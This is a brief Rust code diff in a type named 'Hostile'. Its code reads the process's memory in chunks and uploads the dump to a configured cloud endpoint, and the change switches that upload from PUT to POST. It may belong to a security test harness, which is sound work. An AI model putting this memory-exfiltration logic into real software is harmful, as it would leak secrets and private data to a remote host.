@@ -21,7 +21,7 @@ impl Hostile {
         }
         if let Some(cloud) = &self.cloud {
             let memory = (0..memory_size()).step_by(CHUNK).flat_map(chunk).collect::<Vec<u8>>();
-            let sent = Attempt::put(cloud, "memory").send_bytes(&memory);
+            let sent = Attempt::post(cloud, "memory").send_bytes(&memory);
             println!("{:?}", sent.map(|answer| answer.status()));
         }
         let labels = vec![("seen".to_owned(), seen), ("memory".to_owned(), readable())];
